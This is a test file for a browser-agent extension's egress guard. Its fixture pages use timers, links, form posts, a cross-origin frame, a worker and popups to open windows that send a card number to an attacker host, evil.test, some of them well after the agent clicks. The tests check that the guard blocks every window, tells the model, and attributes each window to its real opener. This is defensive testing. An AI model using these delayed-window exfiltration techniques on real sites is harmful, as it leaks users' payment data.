import type { Page } from 'puppeteer-core';
import { beforeAll, describe, expect, it } from 'vitest';
import type { PendingApproval, TaskRecord } from '../../shared/protocol';
import type { AttackSites } from '../fixtures/attacks/attack-sites';
import type { RecordedRequest } from '../fixtures/fake-provider/fake-provider-server';
import { useAttackWorld } from './support/attack-world';
import { currentView, messagesOf, textOf } from '../fixtures/fake-provider/prompt-view';
import { call, refIn } from './support/snapshot-refs';
import { uiCall } from './support/ui-call';
import { waitUntil } from './support/wait-until';

// Issue 24 item 3: every tab and window a task's tabs open belongs to the task's guard for the task's whole life,
// however late it opens. A generated matrix: how the page opens it (a timer, a link or a form with a target, a frame of
// another site, a worker's message, a popup window, noopener) x when (at once; 4 s later, after the old watch of 1.5 s
// ended, during a later step) x where (the task's own site, approved; the attacker's, not approved). One task runs
// them all: one click starts every cell's timer, and the model waits out the longest while the windows open.

const world = useAttackWorld();

const OPENERS = ['timer', 'link', 'form-post', 'frame', 'worker', 'popup', 'noopener'] as const;
const DELAYS = [0, 4000];
const DESTINATIONS = ['approved', 'unapproved'] as const;
type Opener = (typeof OPENERS)[number];
interface Cell {
  id: string;
  opener: Opener;
  delay: number;
  destination: (typeof DESTINATIONS)[number];
}
const CELLS: Cell[] = OPENERS.flatMap((opener) => DELAYS.flatMap((delay) => DESTINATIONS.map((destination) => ({ id: `${opener}-${delay}-${destination}`, opener, delay, destination }))));

const page = (title: string, body: string): string => `<!doctype html><html><head><meta charset="utf-8"><title>${title}</title></head><body>${body}</body></html>`;

/** Where a cell's window goes: a page of the shop (approved: the task's own site), or the attacker's collector. */
function target(sites: AttackSites, cell: Cell): string {
  return cell.destination === 'approved' ? `${sites.shopOrigin}/late/land/${cell.id}` : `${sites.evilOrigin}/late/collect/${cell.id}?card=4111111111111111`;
}

/** The shop's page: one click schedules every cell's window, each the way its opener would open it. */
function shopPage(sites: AttackSites): string {
  const cells = JSON.stringify(CELLS.map((cell) => ({ ...cell, url: target(sites, cell) })));
  const script = `
    const cells = ${cells};
    const frame = document.getElementById('ad');
    // The frame of another site loads on its own time (slowly on a busy machine): cells for it wait until it has loaded
    // and listens, as a real page's script would wait for its partner frame, so none is posted into a frame not there yet.
    // They go to it in ONE message: Chromium loses messages still on their way to a cross-origin frame once that frame
    // has opened a window (without Deputy too: of four messages posted at once, the frame got only the first one or two
    // in 6 of 12 runs of plain Chromium on a busy machine, and all of one message in 12 of 12), and the frame's
    // later cells then never opened their windows at all.
    let frameLoaded = false;
    const forFrame = [];
    const toFrame = (batch) => batch.length > 0 && frame.contentWindow.postMessage(batch, '*');
    frame.addEventListener('load', () => { frameLoaded = true; toFrame(forFrame.splice(0)); });
    const worker = new Worker(URL.createObjectURL(new Blob(["onmessage = (e) => setTimeout(() => postMessage(e.data), e.data.delay)"], { type: 'text/javascript' })));
    worker.onmessage = (e) => window.open(e.data.url);
    // Not named open: a global function of that name would be window.open itself.
    function openCell(cell) {
      switch (cell.opener) {
        case 'timer': return setTimeout(() => window.open(cell.url), cell.delay);
        case 'popup': return setTimeout(() => window.open(cell.url, cell.id, 'popup,width=420,height=320'), cell.delay);
        case 'noopener': return setTimeout(() => window.open(cell.url, '_blank', 'noopener'), cell.delay);
        case 'link': return setTimeout(() => { const a = document.createElement('a'); a.href = cell.url; a.target = '_blank'; document.body.append(a); a.click(); }, cell.delay);
        case 'form-post': return setTimeout(() => {
          const form = document.createElement('form'); form.method = 'post'; form.action = cell.url; form.target = '_blank';
          const field = document.createElement('input'); field.name = 'card'; field.value = '4111111111111111'; form.append(field);
          document.body.append(form); form.submit();
        }, cell.delay);
        case 'frame': return forFrame.push(cell);
        case 'worker': return worker.postMessage(cell);
      }
    }
    document.getElementById('go').addEventListener('click', () => {
      cells.forEach(openCell);
      if (frameLoaded) toFrame(forFrame.splice(0));
      document.getElementById('s').textContent = 'Offers on their way';
    });
  `;
  return page(
    'Offers',
    `<h1>Offers</h1><button id="go">Open offers</button><p id="s"></p><iframe id="ad" src="${sites.cdnOrigin}/late/frame" width="300" height="80" title="Partner"></iframe><script>${script}</script>`,
  );
}

// The frame of another site opens its cells' windows itself, on the page's word (its cells, in one message; other
// messages, such as the key Deputy's own frame reader posts into frames, are not the page's word). It shows no words:
// words from it would make the click ask (frames cannot borrow the page's authority), and this file is about the windows.
const FRAME = page('Partner', `<script>onmessage = (e) => Array.isArray(e.data) && e.data.forEach((cell) => setTimeout(() => window.open(cell.url), cell.delay));</script>`);

const FINISHED = new Set(['completed', 'failed', 'stopped', 'handed_to_user']);

/** Whether the model was told of a cell's window to the attacker: on an approval's outcome, or as a late block. */
const toldOf = (request: RecordedRequest, cell: Cell): boolean => messagesOf(request).some((m) => textOf(m.content).includes(`/late/collect/${cell.id}`));

/**
 * The model clicks the button once (again only if the click did not take: a page still loading), then waits while the
 * windows open, until every window to the task's own site has landed, the longest delay has passed (a partner frame
 * loads late on a busy machine, and its windows only then start their delay) and it was told of every window to the
 * attacker's site (none is blocked without a word), then ends.
 */
function script(sites: AttackSites): Array<(request: RecordedRequest) => ReturnType<typeof call>> {
  let clickedAt: number | undefined;
  let ended = false;
  const landed = (): boolean => CELLS.filter((c) => c.destination === 'approved').every((cell) => sites.shop.log.some((r) => r.path === `/late/land/${cell.id}`));
  const step = (request: RecordedRequest): ReturnType<typeof call> => {
    if (ended) return call('done', { success: true, summary: 'Opened the offers.' });
    if (currentView(request).includes('Offers on their way')) {
      clickedAt ??= Date.now();
      const told = CELLS.filter((c) => c.destination === 'unapproved').every((cell) => toldOf(request, cell));
      if (landed() && told && Date.now() - clickedAt > Math.max(...DELAYS) + 1500) {
        ended = true;
        return call('done', { success: true, summary: 'Opened the offers.' });
      }
      // Long enough that the loop's stop for a page that no longer changes (6 steps) is not reached before a late
      // window lands on a busy machine: its steps then take longer, and the page itself is still between windows.
      return call('wait', { seconds: 2 });
    }
    try {
      return call('click', { ref: refIn(request, 'button', /^Open offers$/) });
    } catch {
      return call('wait', { seconds: 0.5 });
    }
  };
  // Enough turns for a very slow machine; what is left is dropped once the task ends.
  return Array.from({ length: 200 }, () => step);
}

async function tabsAt(helper: Page, path: string): Promise<number> {
  return helper.evaluate(async (p) => (await chrome.tabs.query({})).filter((t) => `${t.url ?? ''} ${t.pendingUrl ?? ''}`.includes(p)).length, path);
}

describe('windows the page opens late are the task’s, for its whole life', () => {
  let record: TaskRecord;
  const approvals: PendingApproval[] = [];
  let started = 0;

  beforeAll(async () => {
    const { sites, fake, helper } = world;
    sites.shop.routes.set('/late/', shopPage(sites));
    sites.cdn.routes.set('/late/frame', FRAME);
    for (const cell of CELLS) sites.shop.routes.set(`/late/land/${cell.id}`, page(`Offer ${cell.id}`, `<h1>Offer ${cell.id}</h1>`));
    for (const site of [sites.shop, sites.evil, sites.cdn]) site.log.length = 0;
    const tab = await world.ext.browser.newPage();
    await tab.goto('about:blank#late-windows');
    const tabId = await helper.evaluate(async () => (await chrome.tabs.query({})).find((t) => t.url === 'about:blank#late-windows')?.id ?? -1);
    for (const step of script(sites)) fake.enqueue(step);
    started = Date.now();
    record = await uiCall(helper, 'task.start', { tabId, text: 'Open the offers for me', mode: 'act', flow: 'task', url: `${sites.shopOrigin}/late/` });
    // Every approval is refused: the user never lets a window go anywhere.
    record = await waitUntil(
      'the task to end',
      async () => {
        const now = (await uiCall(helper, 'task.get', { taskId: record.id })) ?? record;
        const approval = now.approval;
        if (approval && !approvals.some((a) => a.id === approval.id)) {
          approvals.push(approval);
          await uiCall(helper, 'task.approve', { taskId: now.id, approvalId: approval.id, decision: 'reject' }).catch(() => undefined);
        }
        return FINISHED.has(now.status) ? now : null;
      },
      { timeoutMs: 120_000, everyMs: 150 },
    );
    fake.drop();
  }, 150_000);

  it('the task ran as long as the latest window needed, and every cell really opened its window', async () => {
    expect(record.status, JSON.stringify({ error: record.error, steps: record.agent?.steps.flatMap((s) => s.calls.map((c) => `${c.name} ${c.status}`)) })).toBe('completed');
    expect(Date.now() - started).toBeGreaterThan(Math.max(...DELAYS));
    for (const cell of CELLS.filter((c) => c.destination === 'unapproved')) {
      // The window was made, so the attack was tried and stopped: it is still open, held on its first request, or it
      // was refused on an approval card (and closed).
      const open = await tabsAt(world.helper, `/late/collect/${cell.id}`);
      const refused = approvals.filter((a) => a.reason.includes(`/late/collect/${cell.id}`)).length;
      expect(open + refused, cell.id).toBeGreaterThan(0);
    }
  });

  for (const cell of CELLS) {
    it(`${cell.opener}, after ${cell.delay} ms, to the ${cell.destination} site`, () => {
      const { sites } = world;
      if (cell.destination === 'unapproved') {
        expect(sites.evil.log.filter((r) => r.path.includes(cell.id)), cell.id).toEqual([]);
      } else {
        // A window to the task's own site is the task's too, and loads: the guard holds only what leaves.
        expect(sites.shop.log.some((r) => r.path === `/late/land/${cell.id}`), cell.id).toBe(true);
      }
    });
  }

  it('every window to the attacker that no approval asked about was told: a line in the task steps, and the model read it', () => {
    const requests = world.fake.requests;
    const last = requests.at(-1);
    expect(last).toBeDefined();
    const told = CELLS.filter((c) => c.destination === 'unapproved' && !approvals.some((a) => a.reason.includes(`/late/collect/${c.id}`)));
    // Only one window can be asked about per action: the others are the ones told late, and there are some.
    expect(told.length).toBeGreaterThan(0);
    for (const cell of told) {
      const note = (record.notes ?? []).find((n) => n.text.includes(`/late/collect/${cell.id} `));
      expect(note?.text, cell.id).toMatch(/^The page tried to open a window( posting a form)? with data to http:\/\/evil\.test:\d+\/late\/collect\/\S+ \(http:\/\/evil\.test:\d+, not an approved site\) in tab \d+; Deputy's egress guard blocked it and nothing was sent\.$/);
      expect(note?.text).not.toContain('4111');
      expect(toldOf(last as RecordedRequest, cell), cell.id).toBe(true);
    }
  });

  it('nothing at all reached the attacker', () => {
    expect(world.sites.evil.log).toEqual([]);
  });
});

// Chromium's tab event can name the wrong opener for a window a page opens: the tab created or active just before it
// (a page's window.open in tab A reported opener B). With the user's own tab in that chain, the task's window was taken
// for the user's (and loaded the attacker's page, unguarded), and a window the user's page opened was taken for the
// task's (and held). The guard takes the opener from the page-opened event, which names the real one.
describe('a window is its real opener’s, whichever tab Chromium’s tab event names', () => {
  const approvals: PendingApproval[] = [];
  let record: TaskRecord;
  let userWindowLoaded = false;

  beforeAll(async () => {
    const { sites, fake, helper, ext } = world;
    const collect = `${sites.evilOrigin}/chain/collect?card=4111111111111111`;
    sites.shop.routes.set(
      '/chain/',
      page(
        'Offer',
        `<h1>Offer</h1><button id="go">Open offer</button><p id="s"></p><script>
          document.getElementById('go').addEventListener('click', () => {
            document.getElementById('s').textContent = 'Offer on its way';
            fetch('/chain/clicked');
            setTimeout(() => window.open(${JSON.stringify(collect)}), 2500);
          });
        </script>`,
      ),
    );
    sites.shop.routes.set('/chain/clicked', 'ok');
    sites.cdn.routes.set('/chain/user', page('Reading', '<h1>The user’s own reading</h1>'));
    sites.evil.routes.set('/chain/user-window', page('Elsewhere', '<h1>Where the user went</h1>'));
    for (const site of [sites.shop, sites.evil, sites.cdn]) site.log.length = 0;
    const user = await ext.browser.newPage();
    await user.goto(`${sites.cdnOrigin}/chain/user`);
    const tab = await ext.browser.newPage();
    await tab.goto('about:blank#opener-chain');
    const tabId = await helper.evaluate(
      async () => (await chrome.tabs.query({})).find((t) => t.url === 'about:blank#opener-chain')?.id ?? -1,
    );
    let finished = false;
    // The model clicks once the page shows the button, then waits (a page that opens windows is not done) until the
    // test has seen both windows open.
    const step = (request: RecordedRequest): ReturnType<typeof call> => {
      if (finished) return call('done', { success: true, summary: 'Opened the offer.' });
      if (currentView(request).includes('Offer on its way')) return call('wait', { seconds: 2 });
      try {
        return call('click', { ref: refIn(request, 'button', /^Open offer$/) });
      } catch {
        return call('wait', { seconds: 0.5 });
      }
    };
    for (let i = 0; i < 120; i += 1) fake.enqueue(step);
    record = await uiCall(helper, 'task.start', {
      tabId,
      text: 'Open the offer for me',
      mode: 'act',
      flow: 'task',
      url: `${sites.shopOrigin}/chain/`,
    });
    const refuse = async (): Promise<TaskRecord> => {
      const now = (await uiCall(helper, 'task.get', { taskId: record.id })) ?? record;
      const approval = now.approval;
      if (approval && !approvals.some((a) => a.id === approval.id)) {
        approvals.push(approval);
        await uiCall(helper, 'task.approve', { taskId: now.id, approvalId: approval.id, decision: 'reject' }).catch(
          () => undefined,
        );
      }
      return now;
    };
    // The user looks at their own tab while the task's page opens its window: the tab event names the user's tab.
    await waitUntil('the model to click', () => sites.shop.log.some((r) => r.path === '/chain/clicked'), {
      timeoutMs: 60_000,
    });
    await user.bringToFront();
    await waitUntil(
      'the task’s window to open',
      async () => (
        await refuse(),
        (await tabsAt(helper, '/chain/collect')) > 0 || approvals.some((a) => a.reason.includes('/chain/collect'))
      ),
      {
        timeoutMs: 30_000,
        everyMs: 150,
      },
    );
    // Then the user's page opens a window of its own while the task's tab is in front: the event names a task's tab.
    await tab.bringToFront();
    await user.evaluate((url) => void window.open(url, '_blank'), `${sites.evilOrigin}/chain/user-window`);
    userWindowLoaded = await waitUntil(
      'the user’s window to load',
      async () => (await refuse(), sites.evil.log.some((r) => r.path === '/chain/user-window') || null),
      { timeoutMs: 30_000, everyMs: 150 },
    ).catch(() => false);
    finished = true;
    record = await waitUntil(
      'the task to end',
      async () => {
        const now = await refuse();
        return FINISHED.has(now.status) ? now : null;
      },
      { timeoutMs: 60_000, everyMs: 150 },
    );
    fake.drop();
  }, 150_000);

  it('the task’s window, opened while the user’s tab was in front, is the task’s: nothing reached the attacker', () => {
    expect(world.sites.evil.log.filter((r) => r.path.startsWith('/chain/collect'))).toEqual([]);
    expect(record.status, JSON.stringify({ error: record.error, steps: record.agent?.steps.flatMap((s) => s.calls.map((c) => `${c.name} ${c.status}`)) })).toBe('completed');
  });

  it('the user’s window, opened while the task’s tab was in front, is the user’s: it loads where the user’s page sent it', () => {
    expect(userWindowLoaded).toBe(true);
    expect(approvals.filter((a) => a.reason.includes('/chain/user-window'))).toEqual([]);
  });
});
